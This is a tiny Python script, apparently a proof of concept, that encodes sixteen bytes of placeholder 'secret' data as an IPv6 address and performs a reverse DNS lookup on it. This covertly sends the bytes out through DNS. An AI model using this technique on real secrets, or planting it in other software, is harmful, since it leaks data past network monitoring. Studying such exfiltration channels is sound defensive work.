"""Sixteen bytes of secret a query, spelled as an IPv6 address to look up in reverse."""
import ipaddress
import socket

address = str(ipaddress.IPv6Address(b"\x26top-secret-16bt"[:16]))
print(socket.getnameinfo((address, 80), 0))
